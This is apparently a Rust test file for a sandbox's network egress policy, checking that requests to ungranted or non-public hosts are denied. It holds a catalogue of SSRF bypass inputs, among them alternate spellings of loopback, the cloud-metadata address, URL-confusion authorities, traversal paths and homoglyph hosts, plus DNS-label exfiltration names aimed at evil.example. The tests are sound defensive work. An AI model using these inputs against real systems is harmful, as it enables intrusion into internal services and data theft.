//! Group G: requests to hosts that are not granted, however they are spelled, and names that lie.

use std::os::unix::net::UnixListener;

use serde_json::json;

use crate::arena::Arena;
use crate::case::cases;
use crate::oracle::{Contained, Ending};
use crate::resolver;
use crate::server::{Server, Sinkhole};

cases! {
    case_103_addresses_that_are_not_public
    case_104_addresses_in_other_spellings
    case_105_names_of_addresses_that_are_not_public
    case_106_names_that_change_and_names_of_several_addresses
    case_108_109_urls_that_look_like_others
    case_113_116_hosts_and_ports_and_paths_beside_those_that_are_granted
    case_114_what_is_told_by_a_lookup
    case_117_every_denial_is_the_same_one
    case_118_119_120_128_other_ways_out
}

/// Addresses of this machine, of networks that are somebody's own, and of no machine.
pub(super) const NOT_PUBLIC: &[&str] = &[
    "127.0.0.1",
    "127.0.0.2",
    "127.255.255.254",
    "0.0.0.0",
    "10.0.0.1",
    "172.16.0.1",
    "172.31.255.255",
    "192.168.0.1",
    "169.254.169.254",
    "100.64.0.1",
    "192.0.0.1",
    "198.18.0.1",
    "224.0.0.1",
    "255.255.255.255",
    "[::1]",
    "[::]",
    "[fc00::1]",
    "[fd00:ec2::254]",
    "[fe80::1]",
    "[ff02::1]",
    "[64:ff9b::7f00:1]",
    "[64:ff9b:1::7f00:1]",
    "[2002:7f00:1::]",
    "[::7f00:1]",
    "[2001:0:7f00:1::]",
];

const GUEST: &str = "case_103_asks_for_what_is_denied";

/// Has the guest send these requests, each a line; all are denied. `asked` is how many of them are no request at all.
fn denied(arena: &mut Arena, grant: &str, lines: &[String]) -> Contained {
    arena.place.write("in/requests", lines.join("\n"));
    arena.guest(GUEST).web(grant).attack(Ending::Completed)
}

/// The line of a GET.
fn get(scheme: &str, authority: impl std::fmt::Display, path: &str) -> String {
    format!("GET\t{scheme}\t{authority}\t{path}")
}

/// `http = [...]` for a GET of all that is below each of these hosts, at one port.
fn all_below(hosts: &[&str], port: u16) -> String {
    let requests: Vec<String> = hosts.iter().map(|host| format!("GET http://{host}:{port}/*")).collect();
    format!("http = {}", json!(requests))
}

/// Granted as requests, and not as addresses: whoever wrote that meant a public host.
fn case_103_addresses_that_are_not_public(arena: &mut Arena) -> Contained {
    let port = arena.sinkhole_port();
    let lines: Vec<String> = NOT_PUBLIC.iter().map(|host| get("http", format!("{host}:{port}"), "/")).collect();
    let contained = denied(arena, &all_below(NOT_PUBLIC, port), &lines);
    let reasons: Vec<&str> = contained.exchanges().iter().filter_map(|exchange| exchange["outcome"].as_str()).collect();
    assert_eq!(reasons.len(), NOT_PUBLIC.len());
    // They matched the grant, and were stopped for what they are.
    assert!(reasons.iter().all(|why| why.contains("which is not public")), "{reasons:#?}");
    contained
}

fn case_104_addresses_in_other_spellings(arena: &mut Arena) -> Contained {
    let port = arena.sinkhole_port();
    let spellings = [
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "0177.0.0.1",
        "017700000001",
        "127.1",
        "127.0.1",
        "127.0.0.1.",
        "%31%32%37.0.0.1",
        "127%2e0%2e0%2e1",
        "0",
        "0x0",
        "0x7f.0x0.0x0.0x1",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[0:0:0:0:0:0:0:1]",
        "[0000::0001]",
        "[::127.0.0.1]",
        "[::1%25lo]",
        "[fe80::1%25eth0]",
        "[::1%lo]",
        "①②⑦.0.0.1",
        "127。0。0。1",
        "１２７.0.0.1",
        "localhost",
        "localhost.",
        "LOCALHOST",
        "127.0.0.1:80@127.0.0.1",
    ];
    let lines: Vec<String> = spellings.iter().map(|host| get("http", format!("{host}:{port}"), "/")).collect();
    let granted = ["127.0.0.1", "0.0.0.0", "[::1]", "localhost", "[::7f00:1]"];
    denied(arena, &all_below(&granted, port), &lines)
}

/// The system's resolver answers with what is not public; also with what is not in the grant's own networks.
fn case_105_names_of_addresses_that_are_not_public(arena: &mut Arena) -> Contained {
    let port = arena.sinkhole_port();
    resolver::lies(
        arena,
        "a.example 127.0.0.1\nb.example 169.254.169.254\nc.example ::1\nd.example 127.255.255.254\ne.example ::ffff:7f00:1\n\
         f.example 64:ff9b::7f00:1\ng.example 0.0.0.0\n",
    );
    let hosts = ["a.example", "b.example", "c.example", "d.example", "e.example", "f.example", "g.example"];
    let lines: Vec<String> = hosts.iter().map(|host| get("http", format!("{host}:{port}"), "/")).collect();
    let granted = all_below(&hosts, port);
    let _contained = denied(arena, &granted, &lines);
    assert_eq!(resolver::asked(arena), hosts, "each is asked for once");
    denied(arena, &format!("{granted}\naddresses = [\"127.0.0.2/32\", \"10.0.0.0/8\"]"), &lines)
}

fn case_106_names_that_change_and_names_of_several_addresses(arena: &mut Arena) -> Contained {
    let server = Server::hello();
    let (port, sinkhole) = (server.port, Sinkhole::open(&format!("127.0.0.2:{}", server.port)));
    let granted = |host: &str| format!("{}\naddresses = [\"127.0.0.1/32\"]", all_below(&[host], port));
    // Of several addresses, one that is not granted is enough, wherever it stands.
    for answers in ["127.0.0.1 127.0.0.2", "127.0.0.2 127.0.0.1", "127.0.0.1 ::1", "127.0.0.1 8.8.8.8 10.0.0.1"] {
        resolver::lies(arena, &format!("a.example {answers}\n"));
        let _contained = denied(arena, &granted("a.example"), &[get("http", format!("a.example:{port}"), "/")]);
    }
    assert!(server.seen().is_empty());
    // Who asks twice for one request is answered with the sinkhole.
    resolver::lies(arena, "a.example 127.0.0.1\na.example 127.0.0.2\n");
    let arguments = json!({ "url": format!("http://a.example:{port}/") });
    let contained = arena.fetch(&granted("a.example"), &arguments).attack(Ending::Completed);
    assert_eq!((contained.output(0), resolver::asked(arena).len(), server.seen().len()), (&json!("hello"), 1, 1));
    // For the next request the name has moved.
    let contained = arena.attack(Ending::Halted("request.denied"));
    assert_eq!((resolver::asked(arena).len(), server.seen().len()), (2, 1));
    sinkhole.assert_untouched();
    contained
}

/// What one reader takes for the host, and another for something else.
fn case_108_109_urls_that_look_like_others(arena: &mut Arena) -> Contained {
    let port = arena.sinkhole_port();
    let (own, granted) = (format!("127.0.0.1:{port}"), "allowed.example");
    resolver::lies(arena, "allowed.example 127.0.0.1\nevil.example 127.0.0.1\n");
    let mut lines: Vec<String> = [
        format!("{granted}@{own}"),
        format!("{granted}:80@{own}"),
        format!("user:password@{granted}"),
        format!("{own}#@{granted}"),
        format!("{own}?@{granted}"),
        format!("{own}/@{granted}"),
        format!("{own}\\@{granted}"),
        format!("{granted}\\t.evil.example"),
        format!("{granted}\\n.evil.example"),
        format!("{granted}\\0.evil.example"),
        format!("{granted}%00.evil.example"),
        format!("{granted}%2eevil.example"),
        format!("{granted} evil.example"),
        "ällowed.example".to_owned(),
        "xn--llowed-cua.example".to_owned(),
        String::new(),
    ]
    .iter()
    .map(|authority| get("http", authority, "/"))
    .collect();
    // A path that is said to be a whole URL, or names a host of its own.
    for path in [
        "//evil.example/",
        "///evil.example/",
        "/\\evil.example/",
        "/\\t/evil.example/",
        "/a b",
        "/a\\nhost: evil.example",
        "/a HTTP/1.1\\nx: y",
        "/\\0",
        "/../x",
        "/%2e%2e/x",
        "/a%2fb",
        "/#fragment",
    ] {
        lines.push(get("http", granted, path));
    }
    for scheme in ["file", "ftp", "unix", "ws", "javascript", "HTTPS", "https"] {
        lines.push(get(scheme, granted, "/"));
    }
    lines.push(get("http", "a".repeat(4 << 20), "/"));
    let grant = format!("http = [\"GET http://{granted}/*\"]\naddresses = [\"127.0.0.1/32\"]");
    let contained = denied(arena, &grant, &lines);
    let longest = contained.exchanges().iter().filter_map(|exchange| exchange["url"].as_str()).map(str::len).max();
    assert!(longest.is_some_and(|bytes| bytes <= 8 << 10), "{longest:?}");
    assert!(resolver::asked(arena).is_empty(), "nothing is looked up: {:?}", resolver::asked(arena));
    contained
}

fn case_113_116_hosts_and_ports_and_paths_beside_those_that_are_granted(arena: &mut Arena) -> Contained {
    let port = arena.sinkhole_port();
    resolver::lies(arena, "allowed.example 127.0.0.1\n");
    let mut lines = Vec::new();
    for host in [
        "evil-allowed.example",
        "allowed.example.evil.example",
        "www.allowed.example",
        "example",
        "allowed.exampl",
        "allowed-example",
        "аllowed.example",
        "xn--llowed-3ve.example",
        "*.example",
        "allowed.example..",
    ] {
        lines.push(get("http", format!("{host}:{port}"), "/api/x"));
    }
    for other in [0, 1, 22, 80, 443, port - 1, port + 1, 65_535] {
        lines.push(get("http", format!("allowed.example:{other}"), "/api/x"));
        lines.push(get("http", format!("127.0.0.1:{other}"), "/api/x"));
    }
    lines.push(get("http", "allowed.example", "/api/x"));
    lines.push(get("https", format!("allowed.example:{port}"), "/api/x"));
    for path in [
        "/",
        "/api",
        "/apix",
        "/API/x",
        "/api/../admin",
        "/api/./x",
        "/api/%2e%2e/admin",
        "/api/..%2fadmin",
        "/api/%252e%252e/admin",
        "/api/..;/admin",
        "/x/api/x",
        "//api/x",
        "/api/x?admin=1",
        "/api/x?q=1&admin=1",
        "/api/x?q=1;admin=1",
        "/api/x?%61dmin=1",
        "/api/x?Q=1",
    ] {
        lines.push(get("http", format!("allowed.example:{port}"), path));
    }
    for method in ["POST", "PUT", "get", "HEAD", "CONNECT", "TRACE", "OPTIONS"] {
        lines.push(format!("{method}\thttp\tallowed.example:{port}\t/api/x"));
    }
    let grant = format!(
        "http = [\"GET http://allowed.example:{port}/api/*\"]\nquery = [\"q\"]\naddresses = [\"127.0.0.0/8\", \"::1/128\"]"
    );
    let contained = denied(arena, &grant, &lines);
    assert!(resolver::asked(arena).is_empty(), "nothing is looked up: {:?}", resolver::asked(arena));
    contained
}

/// Who answers for `evil.example` learns of each name below it that is looked up.
fn case_114_what_is_told_by_a_lookup(arena: &mut Arena) -> Contained {
    resolver::lies(arena, "a.example 127.0.0.1\n");
    let long = "c2VjcmV0".repeat(7);
    let hosts = [
        "c2VjcmV0.evil.example".to_owned(),
        "c2VjcmV0.a.example".to_owned(),
        format!("{long}.{long}.{long}.evil.example"),
        "evil.example".to_owned(),
        "a.example.c2VjcmV0.evil.example".to_owned(),
        "c2VjcmV0".to_owned(),
    ];
    let lines: Vec<String> = hosts.iter().map(|host| get("http", host, "/")).collect();
    let contained = denied(arena, "http = [\"GET http://a.example/*\"]", &lines);
    assert!(resolver::asked(arena).is_empty(), "{:?}", resolver::asked(arena));
    contained
}

/// One word for the guest, whether nothing was granted, the URL was none, or the name led inside; the record has them all.
fn case_117_every_denial_is_the_same_one(arena: &mut Arena) -> Contained {
    let port = arena.sinkhole_port();
    resolver::lies(arena, "inside.example 127.0.0.1\n");
    let lines = [
        get("http", format!("inside.example:{port}"), "/x"),
        get("http", format!("127.0.0.1:{port}"), "/x"),
        get("http", format!("other.example:{port}"), "/x"),
        get("http", "inside.example:1", "/x"),
        get("http", format!("inside.example:{port}"), "/y"),
        get("http", format!("inside.example:{port}"), "/x?k=1"),
        get("http", format!("inside.example:{port}"), "/%2e%2e"),
        format!("POST\thttp\tinside.example:{port}\t/x"),
    ];
    let requests = [format!("GET http://inside.example:{port}/x"), format!("GET http://127.0.0.1:{port}/x")];
    let contained = denied(arena, &format!("http = {}\nquery = []", json!(requests)), &lines);
    let exchanges = contained.exchanges();
    let reasons: std::collections::BTreeSet<_> =
        exchanges.iter().map(|exchange| exchange["outcome"].as_str()).collect();
    assert_eq!(reasons.len(), 7, "two are inside: {reasons:#?}");
    assert!(exchanges.iter().all(|exchange| exchange["status"].is_null()));
    contained
}

fn case_118_119_120_128_other_ways_out(arena: &mut Arena) -> Contained {
    let sockets = ["in", "out"].map(|folder| {
        let socket = UnixListener::bind(arena.place.path(folder).join("socket")).expect("sockets can be made");
        socket.set_nonblocking(true).expect("it can be");
        socket
    });
    resolver::lies(arena, "localhost 127.0.0.1\nc2VjcmV0.collect.example 127.0.0.1\n");
    arena.guest("case_118_other_ways_out");
    let _contained = arena.attack(Ending::NotLoaded("component.import"));
    arena.instead("grants = [\"in\", \"out\"]\n", "grants = [\"in\", \"out\"]\ninert = [\"wasi:sockets\"]\n");
    let contained = arena.attack(Ending::Completed);
    assert!(sockets.iter().all(|socket| socket.accept().is_err()), "nobody came");
    assert!(resolver::asked(arena).is_empty(), "{:?}", resolver::asked(arena));
    contained
}
